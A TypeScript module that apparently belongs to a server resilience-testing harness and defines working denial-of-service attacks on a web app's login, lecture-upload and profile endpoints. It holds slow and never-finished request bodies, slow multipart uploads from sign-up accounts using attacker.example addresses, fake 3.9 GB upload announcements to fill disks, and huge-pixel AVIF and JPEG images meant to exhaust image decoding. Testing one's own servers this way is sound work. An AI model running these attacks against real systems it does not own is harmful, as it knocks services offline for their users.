import { type ClientRequest, request } from 'node:http'
import sharp from 'sharp'
import { type Attack, countResponse, keepBusy, pause, type Target } from '../lib/attack.ts'
import { beginUpload, form, formHead, formType, makeLecture, signUp } from '../lib/call.ts'

const length = 1024 * 1024
const almostAll = Buffer.alloc(length - 1, 0x20)

/** One body that never ends; `dripMs` apart one byte each, or all but the last byte at once. Resolves when the connection ends. */
const unfinished = (target: Target, signal: AbortSignal, dripMs: number | null): Promise<void> =>
  new Promise((resolve) => {
    const sent = request(`${target.origin}/api/auth/login`, {
      method: 'POST',
      localAddress: target.from,
      agent: false,
      headers: { 'content-type': 'application/json', 'content-length': String(length), origin: target.origin },
    })
    target.count('opened')
    sent.on('response', countResponse(target))
    sent.on('error', () => undefined)
    const drip = dripMs === null ? undefined : setInterval(() => sent.write(' '), dripMs)
    const stop = () => sent.destroy()
    sent.on('close', () => {
      clearInterval(drip)
      signal.removeEventListener('abort', stop)
      // a closed connection is opened again
      void pause(100, signal).then(resolve)
    })
    signal.addEventListener('abort', stop, { once: true })
    sent.flushHeaders()
    if (dripMs === null) sent.write(almostAll)
  })

export const unfinishedBodies: Attack = {
  name: 'unfinished-bodies',
  what: '400 JSON bodies of 1 MB without their last byte, kept open',
  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, null)),
}

export const drippingBodies: Attack = {
  name: 'dripping-bodies',
  what: '400 JSON bodies that come one byte every 3 s',
  arm: async (target) => (signal) => keepBusy(400, signal, () => unfinished(target, signal, 3000)),
}

type Sent = { field: string; announced: number | null; sendBytes: number; dripMs: number }

/** First box of an MP4 file: enough for a server that checks the first bytes. */
const video = Buffer.concat([
  Buffer.from([0, 0, 0, 24]),
  Buffer.from('ftypisom\0\0\x02\0isomiso2'),
  Buffer.alloc(8000, 7),
])
const piece = Buffer.alloc(256 * 1024, 7)

/** Makes an educator of the attacker's own, with a course and a lecture. Returns the address of the lecture's upload, and the cookie. */
async function ownLecture(target: Target, name: string): Promise<{ path: string; cookie: string; lectureId: string }> {
  const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`, 'educator')
  const { lectureId } = await makeLecture(target.origin, target.from, cookie)
  return { path: `/api/course/editlecture/${lectureId}`, cookie, lectureId }
}

/** Begins an upload that never ends: `sendBytes` as fast as they are taken, then a byte now and then. Resolves when the connection ends. */
function begin(target: Target, to: { path: string; cookie: string }, signal: AbortSignal, how: Sent): Promise<void> {
  return new Promise((resolve) => {
    const sent: ClientRequest = request(target.origin + to.path, {
      method: 'POST',
      localAddress: target.from,
      agent: false,
      headers: {
        'content-type': formType,
        cookie: to.cookie,
        origin: target.origin,
        ...(how.announced === null ? {} : { 'content-length': String(how.announced) }),
      },
    })
    target.count('opened')
    sent.on('response', countResponse(target))
    sent.on('error', () => undefined)
    let left = how.sendBytes
    const fill = () => {
      while (left > 0 && !sent.destroyed) {
        left -= piece.length
        target.count('MB sent', piece.length / 1e6)
        if (!sent.write(piece)) return
      }
    }
    sent.on('drain', fill)
    const head = formHead({ field: how.field, filename: 'lecture.mp4', type: 'video/mp4' })
    // without the first bytes of the file nothing tells what it is
    sent.write(how.sendBytes === 0 ? head : Buffer.concat([head, video]))
    fill()
    const drip = setInterval(() => sent.write('x'), how.dripMs)
    const stop = () => sent.destroy()
    signal.addEventListener('abort', stop, { once: true })
    sent.on('close', () => {
      clearInterval(drip)
      signal.removeEventListener('abort', stop)
      void pause(100, signal).then(resolve)
    })
  })
}

const uploads = (name: string, what: string, lanes: number, how: Sent): Attack => ({
  name,
  what,
  async arm(target) {
    const lecture = await ownLecture(target, name)
    return (signal) => keepBusy(lanes, signal, () => begin(target, lecture, signal, how))
  },
})

export const unfinishedUploads = uploads(
  'unfinished-uploads',
  '100 videos of 300 MB to one lecture, each stopped after 0.5 MB',
  100,
  { field: 'videoUrl', announced: 300_000_000, sendBytes: 500_000, dripMs: 3000 },
)
export const chunkedUploads = uploads('chunked-uploads', '8 videos without a length, each stopped after 50 MB', 8, {
  field: 'videoUrl',
  announced: null,
  sendBytes: 50_000_000,
  dripMs: 3000,
})
export const unknownField = uploads(
  'unknown-field',
  '8 files of 400 MB in a field that no form has, each stopped after 50 MB',
  8,
  { field: 'somethingElse', announced: 400_000_000, sendBytes: 50_000_000, dripMs: 3000 },
)

/** Enough to announce more than the disks of most servers have. */
const hoarders = 5

export const announcedUploads: Attack = {
  name: 'announced-uploads',
  what: 'five accounts announce 5 videos of 3.9 GB each, and send no byte of them',
  async arm(target) {
    const lectures = await Promise.all(
      Array.from({ length: hoarders }, (_, at) => ownLecture(target, `announced-${at}`)),
    )
    return (signal) =>
      keepBusy(hoarders, signal, async (lane) => {
        const lecture = lectures[lane % hoarders]
        if (!lecture) return
        const begun = await target.send({ ...beginUpload(lecture.lectureId, 3.9e9, lecture.cookie), signal })
        if (begun?.status === 201) target.count('GB announced', 3.9)
        else await pause(500, signal)
      })
  },
}

/** As many as an account may have at once. */
const formsOfAccount = 16

export const slowForms: Attack = {
  name: 'slow-forms',
  what: '80 forms of five accounts with a picture of 100 kB, of which a byte comes every 3 s',
  async arm(target) {
    const cookies = await Promise.all(
      Array.from({ length: hoarders }, (_, at) => signUp(target.origin, target.from, `slow-${at}@attacker.example`)),
    )
    const how = { field: 'photoUrl', announced: 100_000, sendBytes: 0, dripMs: 3000 }
    return (signal) =>
      keepBusy(hoarders * formsOfAccount, signal, (lane) =>
        begin(target, { path: '/api/user/updateprofile', cookie: cookies[lane % hoarders] ?? '' }, signal, how),
      )
  },
}

const imageUploads = (name: string, what: string, type: string, make: () => Promise<Buffer>): Attack => ({
  name,
  what,
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`)
    const file = { field: 'photoUrl', filename: 'image', type, bytes: await make() }
    return (signal) =>
      keepBusy(16, signal, () => target.send({ ...form('/api/user/updateprofile', file, cookie), signal }))
  },
})

const plain = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#345' } })

export const flatAvif = imageUploads(
  'flat-avif',
  '16 images of one account at a time: AVIF of one colour, 8000 x 6200, a few kB',
  'image/avif',
  () => plain(8000, 6200).avif({ effort: 0 }).toBuffer(),
)

export const largeJpeg = imageUploads('large-jpeg', 'the same with JPEG of 8000 x 5000', 'image/jpeg', () =>
  sharp({
    create: {
      width: 8000,
      height: 5000,
      channels: 3,
      background: '#886',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .blur(3)
    .jpeg({ quality: 75 })
    .toBuffer(),
)
